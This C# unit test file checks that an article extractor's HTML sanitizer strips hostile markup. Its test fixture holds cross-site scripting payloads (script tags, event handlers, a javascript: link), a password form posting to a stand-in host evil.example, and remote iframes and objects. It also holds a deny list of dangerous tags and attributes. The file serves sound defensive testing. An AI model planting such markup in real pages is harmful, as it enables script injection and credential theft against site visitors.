using Monitor.Extract.Tests.Support;

namespace Monitor.Extract.Tests;

public sealed class SanitizationTests
{
    private const string Hostile = """
        <p onclick="steal()" style="position:fixed">Patrols met at the crossing
          <a href="javascript:alert(1)">click</a> <a href="/reports/42" onmouseover="x()">report</a>
          <a href="mailto:desk@example.org">desk</a> <a href="https://partner.example/brief">brief</a></p>
        <script>alert('script body')</script>
        <style>p { color: red }</style>
        <form action="https://evil.example/collect"><input name="password"><button>Send</button></form>
        <iframe src="https://evil.example/frame"></iframe>
        <img src="https://tracker.example/pixel.gif" onerror="alert(2)" width="1" height="1">
        <object data="https://evil.example/x.swf"></object>
        <svg><script>alert(3)</script></svg>
        <blockquote>Quoted statement from the ministry.</blockquote>
        """;

    private readonly ArticleExtractor _extractor = new(new ExtractionOptions());

    [Fact]
    public async Task Feed_Content_Loses_Scripts_Handlers_Dangerous_Links_Forms_And_Frames()
    {
        var article = await _extractor.ExtractAsync(new ExtractRequest(Pages.WallUrl, Pages.SubscriberWall)
        {
            FallbackHtml = Hostile,
        });

        Assert.Equal(ExtractionSource.FeedFallback, article.Source);
        AssertClean(article.Html);
        Assert.Contains("href=\"https://ledger.example/reports/42\"", article.Html);
        Assert.Contains("href=\"mailto:desk@example.org\"", article.Html);
        Assert.Contains("href=\"https://partner.example/brief\"", article.Html);
        Assert.Contains("<blockquote>", article.Html);
        Assert.Contains("Patrols met at the crossing", article.Text);
        Assert.DoesNotContain("script body", article.Text);
        Assert.DoesNotContain("Send", article.Text);
    }

    [Fact]
    public async Task Page_Content_Loses_Hostile_Markup_Inside_The_Article()
    {
        var article = await _extractor.ExtractAsync(new ExtractRequest(new Uri("https://example.org/a"), Pages.Article(articleExtra: Hostile)));

        Assert.Equal(ExtractionSource.Page, article.Source);
        AssertClean(article.Html);
        Assert.Contains("shared watch list", article.Text);
    }

    private static void AssertClean(string html)
    {
        foreach (var forbidden in new[]
                 {
                     "<script", "<style", "<form", "<input", "<button", "<iframe", "<img", "<object", "<svg",
                     "onclick", "onmouseover", "onerror", "javascript:", "style=", "alert(",
                 })
        {
            Assert.DoesNotContain(forbidden, html, StringComparison.OrdinalIgnoreCase);
        }
    }
}
